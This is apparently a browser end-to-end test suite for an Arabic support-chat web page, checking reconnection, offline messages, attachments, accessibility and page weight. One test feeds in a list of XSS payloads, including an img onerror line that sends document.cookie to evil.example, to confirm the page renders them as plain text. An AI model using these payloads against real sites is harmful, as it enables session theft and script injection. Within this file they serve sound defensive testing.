/** The page in a real browser, against the real server and a scripted bot. */
import { readdir, readFile } from 'node:fs/promises'
import { createRequire } from 'node:module'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { type Browser, type BrowserContext, type BrowserContextOptions, chromium, type Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { buildPages } from '../../support/build-pages.ts'
import { type ChatServer, startChatServer } from '../../support/chat-server.ts'
import { findChromium } from '../../support/chromium.ts'
import { createFakeChat, type FakeChatOptions } from '../../support/fake-chat.ts'

let pages: Awaited<ReturnType<typeof buildPages>>
let browser: Browser
const open: { close(): Promise<unknown> }[] = []
/** Pages complain here; no test ends with a complaint. */
const complaints: string[] = []

beforeAll(async () => {
  pages = await buildPages(['chat'])
  const { executablePath, args } = findChromium()
  browser = await chromium.launch({ executablePath, args: [...args, '--disable-background-networking', '--disable-component-update'] })
})
afterAll(async () => {
  await browser.close()
  await pages.remove()
})
afterEach(async () => {
  for (const thing of open.splice(0).toReversed()) await thing.close()
  expect(complaints.splice(0)).toEqual([])
})

const watch = (page: Page): void => {
  page.on('pageerror', (error) => complaints.push(error.message))
  page.on('console', (line) => {
    // A cut connection is what some tests are about; the browser says so by itself.
    if (line.type() === 'error' && !/net::ERR|Failed to load resource/.test(line.text())) complaints.push(line.text())
  })
}
const phone: BrowserContextOptions = { viewport: { width: 390, height: 844 }, isMobile: true, hasTouch: true }
const start = async (
  options: FakeChatOptions & { context?: BrowserContextOptions; server?: Parameters<typeof startChatServer>[1] } = {},
) => {
  const chat = createFakeChat(options)
  const server: ChatServer = await startChatServer(chat, { pages: pages.directory, ...options.server })
  open.push(server)
  const context: BrowserContext = await browser.newContext({ locale: 'ar-SA', ...options.context })
  open.push(context)
  const visit = async () => {
    const page = await context.newPage()
    watch(page)
    await page.goto(`${server.url}/c/masakin`)
    await page.getByRole('heading', { name: 'جمعية مساكن', exact: true }).waitFor()
    return page
  }
  return { chat, server, context, visit }
}
const composer = (page: Page) => page.getByRole('textbox', { name: 'رسالتك' })
const say = async (page: Page, text: string) => {
  await composer(page).fill(text)
  await page.getByRole('button', { name: 'إرسال', exact: true }).click()
}
const bubbles = async (page: Page): Promise<string[]> =>
  page
    .locator('[data-from]')
    .evaluateAll((all) =>
      all.map(
        (bubble) =>
          `${bubble.getAttribute('data-from')}: ${[...bubble.querySelectorAll('.line')].map((line) => line.textContent).join('|')}`,
      ),
    )
const until = async <T>(read: () => Promise<T>, expected: T): Promise<void> => {
  let last: T | undefined
  for (const began = Date.now(); Date.now() - began < 6000; await new Promise((resolve) => setTimeout(resolve, 40))) {
    last = await read()
    if (JSON.stringify(last) === JSON.stringify(expected)) return
  }
  expect(last).toEqual(expected)
}

test('a conversation: welcome, words, options, the chosen one, the owner', async () => {
  const { chat, visit } = await start({
    context: phone,
    delayMs: 250,
    answer: (said) => (said === 'طلب دعم' ? [{ text: 'نبدأ؟', options: ['نعم', 'لا'] }] : [{ text: `وصلنا: ${said}` }]),
  })
  const page = await visit()
  expect(await page.evaluate(() => [document.documentElement.dir, document.documentElement.lang])).toEqual(['rtl', 'ar'])
  await page.getByText('نسخة تجريبية').waitFor()
  await page.getByRole('button', { name: 'طلب دعم' }).click()
  await page.locator('[data-typing]').waitFor()
  const first = page.getByRole('button', { name: /١\s*نعم/ })
  await first.waitFor()
  expect(await page.locator('[data-typing]').count()).toBe(0)
  // Mine at the end side, which is the left one here; theirs at the right.
  const at = async (from: string) => (await page.locator(`[data-from=${from}]`).first().boundingBox())?.x ?? 0
  expect(await at('me')).toBeLessThan(30)
  expect(await at('bot')).toBeGreaterThan(60)

  await first.click()
  await until(() => bubbles(page), ['me: طلب دعم', 'bot: نبدأ؟', 'me: نعم', 'bot: وصلنا: نعم'])
  expect(await first.isDisabled()).toBe(true)
  expect(chat.received.at(-1)?.content).toMatchObject({ kind: 'choice', optionId: 'o1' })

  chat.setOwner('staff')
  await page.locator('[data-owner=staff]', { hasText: 'معك موظف' }).waitFor()
  chat.say('staff', { text: 'السلام عليكم' }, 'أ. سارة')
  await page.getByText('أ. سارة', { exact: true }).waitFor()
})

test('on a keyboard Enter sends and Shift+Enter makes a line; on a phone Enter makes a line', async () => {
  const { visit, context } = await start({ answer: () => [] })
  const page = await visit()
  await composer(page).pressSequentially('س')
  await composer(page).press('Shift+Enter')
  await composer(page).pressSequentially('ص')
  await composer(page).press('Enter')
  await until(() => bubbles(page), ['me: س|ص'])
  expect(await composer(page).inputValue()).toBe('')
  await context.close()

  const other = await start({ answer: () => [], context: phone })
  const mobile = await other.visit()
  await composer(mobile).pressSequentially('س')
  await composer(mobile).press('Enter')
  expect(await composer(mobile).inputValue()).toBe('س\n')
})

test('the line is cut three times, with words in both directions: nothing lost, nothing doubled', async () => {
  const { chat, server, visit } = await start({ answer: () => [] })
  const page = await visit()
  const expected: string[] = []
  for (let round = 0; round < 3; round += 1) {
    server.cutSockets()
    for (let n = 0; n < 3; n += 1) {
      const id = `${round}.${n}`
      await say(page, `مني ${id}`)
      expected.push(`me: مني ${id}`)
      if (n === 1) server.cutSockets()
    }
    await until(async () => chat.received.length, (round + 1) * 3)
    chat.say('bot', { text: `إليك ${round}` })
    expected.push(`bot: إليك ${round}`)
  }
  await until(() => bubbles(page), expected)
  expect(new Set(chat.received.map(({ clientId }) => clientId)).size).toBe(9)
  expect(await page.getByText('لم تُرسل').count()).toBe(0)
})

test('a server that goes away and comes back: words wait, a bar says so, then all is there', async () => {
  const { chat, server, visit } = await start({ answer: () => [] })
  const page = await visit()
  await say(page, 'قبل')
  await until(() => bubbles(page), ['me: قبل'])
  const port = Number(new URL(server.url).port)
  await server.close()
  await say(page, 'أثناء')
  await page.getByText('انقطع الاتصال').waitFor()
  const again = await startChatServer(chat, { pages: pages.directory, port })
  open.push(again)
  chat.say('bot', { text: 'بعد' })
  await page.getByText('انقطع الاتصال').waitFor({ state: 'detached', timeout: 15_000 })
  await until(async () => (await bubbles(page)).toSorted(), ['bot: بعد', 'me: أثناء', 'me: قبل'])
  expect(chat.received.map(({ content }) => content)).toEqual([
    { kind: 'text', text: 'قبل' },
    { kind: 'text', text: 'أثناء' },
  ])
})

test('offline words survive a reload of the tab, and so does the draft', async () => {
  const { chat, context, visit } = await start({ answer: () => [] })
  const page = await visit()
  let blocked = true
  await context.route('**/messages', (route) => (blocked ? route.abort() : route.continue()))
  await say(page, 'محفوظة')
  await composer(page).fill('مسودة')
  await page.reload()
  await until(() => bubbles(page), ['me: محفوظة'])
  expect(await composer(page).inputValue()).toBe('مسودة')
  expect(chat.received).toEqual([])
  blocked = false
  await until(async () => chat.received.length, 1)
  await until(() => bubbles(page), ['me: محفوظة'])
})

test('what the server refuses is shown with a way out, and the next message still goes', async () => {
  const { chat, context, visit } = await start({ answer: () => [] })
  const page = await visit()
  let refuse = true
  await context.route('**/messages', (route) => (refuse ? route.fulfill({ status: 422, body: '{}' }) : route.continue()))
  await say(page, 'أولى')
  await page.getByRole('button', { name: 'إعادة الإرسال' }).waitFor()
  refuse = false
  await say(page, 'ثانية')
  await until(async () => chat.received.length, 1)
  await page.getByRole('button', { name: 'إعادة الإرسال' }).click()
  await until(async () => (await bubbles(page)).toSorted(), ['me: أولى', 'me: ثانية'])
  expect(await page.getByText('لم تُرسل').count()).toBe(0)
})

test('two tabs show one conversation and share one stream; the one that stays takes it over', async () => {
  const { chat, visit } = await start({ answer: (said) => [{ text: `«${said}»` }] })
  const one = await visit()
  const two = await visit()
  await say(one, 'من الأولى')
  await until(() => bubbles(two), ['me: من الأولى', 'bot: «من الأولى»'])
  await say(two, 'من الثانية')
  const all = ['me: من الأولى', 'bot: «من الأولى»', 'me: من الثانية', 'bot: «من الثانية»']
  await until(() => bubbles(one), all)
  await until(() => bubbles(two), all)
  const streams = () => [...chat.threads.values()].reduce((sum, { listeners }) => sum + listeners.size, 0)
  await until(async () => streams(), 1)
  await two.close()
  await until(async () => streams(), 1)
  chat.say('bot', { text: 'للباقية' })
  await until(() => bubbles(one), [...all, 'bot: للباقية'])
})

const png = Buffer.from('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPj/HwAEhQGAoO2j9wAAAABJRU5ErkJggg==', 'base64')

test('a photo and a file: seen before they go, sent with their caption, shown after', async () => {
  const { chat, visit } = await start({ answer: () => [], context: phone })
  const page = await visit()
  await page.locator('input[type=file]').setInputFiles([
    { name: 'صورة.png', mimeType: 'image/png', buffer: png },
    { name: 'كشف_2026.pdf', mimeType: 'application/pdf', buffer: Buffer.alloc(1_900_000, 'a') },
  ])
  await page.getByRole('list', { name: 'مرفقات لم تُرسل بعد' }).getByRole('listitem').nth(1).waitFor()
  await page.getByRole('button', { name: 'إزالة كشف_2026.pdf' }).click()
  await page
    .locator('input[type=file]')
    .setInputFiles([{ name: 'كشف_2026.pdf', mimeType: 'application/pdf', buffer: Buffer.alloc(1_900_000, 'a') }])
  await say(page, 'هذه هي')
  await until(async () => chat.received.length, 2)
  expect(chat.received.map(({ content }) => content)).toMatchObject([
    { kind: 'image', caption: 'هذه هي', file: { name: 'صورة.png', mime: 'image/png' } },
    { kind: 'document', caption: null, file: { name: 'كشف_2026.pdf', size: 1_900_000 } },
  ])
  const picture = page.getByRole('img', { name: 'صورة.png' })
  await until(
    async () => picture.evaluate((img) => img instanceof HTMLImageElement && !img.src.startsWith('blob:') && img.naturalWidth > 0),
    true,
  )
  await page.getByRole('link', { name: /فتح كشف_2026/ }).waitFor()
})

test('what cannot be taken is said before it is uploaded', async () => {
  const { chat, visit } = await start({ answer: () => [], fileLimit: 1_048_576 })
  const page = await visit()
  const pick = (name: string, mimeType: string, size: number) =>
    page.locator('input[type=file]').setInputFiles([{ name, mimeType, buffer: Buffer.alloc(size, 1) }])
  await pick('كبير.pdf', 'application/pdf', 2_621_440)
  await page.getByText('حجم «كبير.pdf» ٢٫٥ م.ب، والحد ١ م.ب.').waitFor()
  await pick('رسم.svg', 'image/svg+xml', 10)
  await page.getByText('نستقبل هنا الصور').waitFor()
  await pick('فارغ.pdf', 'application/pdf', 0)
  await page.getByText('الملف «فارغ.pdf» فارغ').waitFor()
  await page.getByRole('button', { name: 'إخفاء' }).click()
  expect(await page.getByText('فارغ').count()).toBe(0)
  expect(chat.received).toEqual([])
})

test('a picture pasted and a file dropped go the same way', async () => {
  const { visit } = await start({ answer: () => [] })
  const page = await visit()
  await page.evaluate(() => {
    const carry = new DataTransfer()
    carry.items.add(new File([new Uint8Array([1])], 'ملصقة.png', { type: 'image/png' }))
    document
      .querySelector('textarea')
      ?.dispatchEvent(new ClipboardEvent('paste', { clipboardData: carry, bubbles: true, cancelable: true }))
  })
  await page.getByRole('button', { name: 'إزالة ملصقة.png' }).waitFor()
  await page.evaluate(() => {
    const carry = new DataTransfer()
    carry.items.add(new File([new Uint8Array([1])], 'مفلتة.pdf', { type: 'application/pdf' }))
    const log = document.querySelector('[role=log]')
    log?.dispatchEvent(new DragEvent('dragenter', { dataTransfer: carry, bubbles: true }))
    log?.dispatchEvent(new DragEvent('drop', { dataTransfer: carry, bubbles: true, cancelable: true }))
  })
  await page.getByRole('button', { name: 'إزالة مفلتة.pdf' }).waitFor()
})

test('markup from anybody is text: nothing runs, nothing is fetched, nothing is hidden', async () => {
  const attacks = [
    '<img src=x onerror=fetch("//evil.example/"+document.cookie)>',
    '</style><style>*{display:none}</style>',
    '<script>document.title="pwned"</script>',
    '<svg/onload=alert(1)>',
    'javascript:alert(1)',
    '"><iframe src=//evil.example>',
    '{{constructor.constructor("alert(1)")()}}',
    '\u202Eمقلوب',
  ]
  const { context, visit, chat } = await start({ answer: () => [] })
  const asked: string[] = []
  context.on('request', (request) => asked.push(request.url()))
  const page = await visit()
  for (const attack of attacks) await say(page, attack)
  await until(async () => chat.received.length, attacks.length)
  for (const attack of attacks) chat.say('staff', { text: attack, options: [attack] }, attack)
  await until(async () => (await bubbles(page)).length, attacks.length * 2)
  const shown = await bubbles(page)
  const clean = attacks.map((attack) => attack.replace('\u202E', ''))
  expect(shown).toEqual([...clean.map((text) => `me: ${text}`), ...clean.map((text) => `staff: ${text}`)])
  expect(await page.title()).not.toBe('pwned')
  expect(await page.locator('[role=log] :is(img, iframe, script, style, a)').count()).toBe(0)
  expect(await page.locator('[role=log]').isVisible()).toBe(true)
  expect(asked.filter((url) => url.includes('evil'))).toEqual([])
})

test('who reads further up is not moved, and hears that something came', async () => {
  const { chat, visit } = await start({ answer: () => [], context: phone })
  const page = await visit()
  await say(page, 'بداية')
  for (let n = 0; n < 30; n += 1) chat.say('bot', { text: `سطر ${n}\nوآخر` })
  const log = page.locator('[role=log]')
  const gap = () => log.evaluate((box) => Math.round(box.scrollHeight - box.scrollTop - box.clientHeight))
  await until(async () => (await bubbles(page)).length, 31)
  await until(gap, 0)
  await log.evaluate((box) => {
    box.scrollTop = 300
  })
  await page.waitForTimeout(100)
  chat.say('bot', { text: 'جديد' })
  const pill = page.getByRole('button', { name: 'رسائل جديدة' })
  await pill.waitFor()
  expect(await log.evaluate((box) => box.scrollTop)).toBe(300)
  await pill.click()
  await until(gap, 0)
  await pill.waitFor({ state: 'detached' })
})

test('an English answer turns the page to English, and an Arabic one back', async () => {
  const { chat, visit } = await start({ answer: () => [{ text: 'How can we help?', language: 'en', options: ['Request'] }] })
  const page = await visit()
  await say(page, 'Hello')
  await page.getByRole('textbox', { name: 'Your message' }).waitFor()
  expect(await page.evaluate(() => document.documentElement.dir)).toBe('ltr')
  await page.getByRole('heading', { name: 'Masakin Association' }).waitFor()
  chat.say('bot', { text: 'تفضيل العربية' })
  await composer(page).waitFor()
})

test('an address without a conversation says so', async () => {
  const { server, context } = await start()
  const page = await context.newPage()
  await page.goto(`${server.url}/c/nobody`)
  await page.getByRole('heading', { name: 'لا توجد محادثة على هذا الرابط' }).waitFor()
})

// Its own source, run in the page: the content policy lets no other script in.
const axe = await readFile(createRequire(import.meta.url).resolve('axe-core/axe.min.js'), 'utf8')

test.each([
  ['phone', phone],
  ['narrow', { viewport: { width: 320, height: 568 } }],
  ['desktop, dark', { viewport: { width: 1280, height: 800 }, colorScheme: 'dark' }],
] satisfies [string, BrowserContextOptions][])('no barrier that axe can find, and no sideways scroll: %s', async (_name, context) => {
  const { chat, visit } = await start({
    context,
    answer: (said) => [
      { text: 'رقمك \u2066MSK-1042\u2069\nhttps://sila.example/a-very-long-address/that-goes-on-and-on-without-any-space-at-all/1042' },
      said === 'قيّم'
        ? { text: 'كيف كانت الخدمة؟', layout: 'scale', options: ['سيئة', 'ضعيفة', 'مقبولة', 'جيدة', 'ممتازة'] }
        : { text: 'نبدأ؟', options: ['نعم', 'لا'] },
    ],
  })
  const page = await visit()
  const violations = async () => {
    await page.waitForTimeout(250)
    await page.evaluate(axe)
    return page.evaluate(async () => {
      // Put there by the line above.
      const { axe } = window as unknown as {
        axe: { run(): Promise<{ violations: { id: string; impact: string; nodes: { html: string }[] }[] }> }
      }
      return (await axe.run()).violations.map(({ id, impact, nodes }) => `${impact} ${id}: ${nodes[0]?.html}`)
    })
  }
  expect(await violations()).toEqual([])
  await say(page, 'سلام')
  await until(async () => (await bubbles(page)).length, 3)
  await say(page, 'قيّم')
  await until(async () => (await bubbles(page)).length, 6)
  await page.locator('input[type=file]').setInputFiles([
    { name: 'صورة.png', mimeType: 'image/png', buffer: png },
    { name: 'كشف.pdf', mimeType: 'application/pdf', buffer: Buffer.alloc(5000, 'a') },
  ])
  await say(page, 'ملفات')
  await until(async () => (await bubbles(page)).length, 12)
  chat.setOwner('staff')
  chat.say('staff', { text: 'معك سارة' }, 'أ. سارة')
  await page.getByText('معك سارة').waitFor()
  await page.locator('input[type=file]').setInputFiles([{ name: 'آخر.pdf', mimeType: 'application/pdf', buffer: Buffer.alloc(5000, 'a') }])
  expect(await violations()).toEqual([])
  const sideways = await page.evaluate(() =>
    [document.documentElement, document.body, document.querySelector('[role=log]')].map((box) =>
      box ? box.scrollWidth - box.clientWidth : -1,
    ),
  )
  expect(sideways).toEqual([0, 0, 0])
})

test('the page holds no shift of its layout while it opens', async () => {
  const { visit, context } = await start({ answer: () => [{ text: 'نبدأ؟', options: ['نعم'] }] })
  const first = await visit()
  await say(first, 'سلام')
  await until(async () => (await bubbles(first)).length, 2)
  await first.close()
  const page = await context.newPage()
  watch(page)
  await page.addInitScript(() => {
    new PerformanceObserver((list) => {
      for (const entry of list.getEntries()) {
        const shift = entry as PerformanceEntry & { value: number } // layout-shift entries carry a value
        document.documentElement.dataset.shift = String(Number(document.documentElement.dataset.shift ?? 0) + shift.value)
      }
    }).observe({ type: 'layout-shift', buffered: true })
  })
  await page.goto(first.url())
  await page.getByRole('button', { name: /نعم/ }).waitFor()
  await page.waitForTimeout(300)
  expect(Number(await page.evaluate(() => document.documentElement.dataset.shift ?? '0'))).toBeLessThan(0.05)
})

test('the first screen weighs at most 90 KiB, its fonts 56', async () => {
  const html = await readFile(join(pages.directory, 'chat/index.html'), 'utf8')
  const weigh = async (pattern: RegExp) => {
    let sum = 0
    for (const [, name = ''] of html.matchAll(pattern)) sum += gzipSync(await readFile(join(pages.directory, name))).length
    return sum
  }
  const code = await weigh(/(?:src|href)="(\/assets\/[^"]+\.(?:js|css))"/g)
  expect(code).toBeGreaterThan(20_000)
  expect(code).toBeLessThanOrEqual(90 * 1024)
  expect(html).not.toMatch(/<script(?![^>]+src=)|<style|style=|\son\w+=/)
  const fonts = (await readdir(join(pages.directory, 'assets'))).filter((name) => name.endsWith('.woff2'))
  let sum = 0
  for (const name of fonts) sum += (await readFile(join(pages.directory, 'assets', name))).length
  expect(fonts).toHaveLength(4)
  expect(sum).toBeLessThanOrEqual(56 * 1024)
})

test('a one-time link is handed over once and is gone from the address bar, also in a page that was open', async () => {
  const { chat, server, context, visit } = await start({
    answer: (_said, content) => (content.kind === 'start' ? [{ text: 'هل طلبت هذا الرابط؟' }] : []),
  })
  const [first, second] = [`l_${'a'.repeat(43)}`, `l_${'b'.repeat(43)}`]
  const page = await context.newPage()
  watch(page)
  const asked: string[] = []
  page.on('request', (request) => asked.push(request.url() + (request.headers().referer ?? '')))
  await page.goto(`${server.url}/c/masakin#link=${first}`)
  await page.getByText('هل طلبت هذا الرابط؟').waitFor()
  expect(await page.evaluate(() => location.href)).toBe(`${server.url}/c/masakin`)
  expect(chat.received.map(({ content }) => content)).toEqual([{ kind: 'start', payload: first }])
  // No server and no log on the way has seen it.
  expect(asked.join()).not.toContain(first)
  await page.reload()
  await page.getByText('هل طلبت هذا الرابط؟').waitFor()
  await page.evaluate((token) => {
    location.hash = `link=${token}`
  }, second)
  await expect.poll(() => chat.received.map(({ content }) => ('payload' in content ? content.payload : null))).toEqual([first, second])
  expect(await page.evaluate(() => location.href)).toBe(`${server.url}/c/masakin`)
  const plain = await visit()
  await plain.waitForTimeout(300)
  expect(chat.received).toHaveLength(2)
})
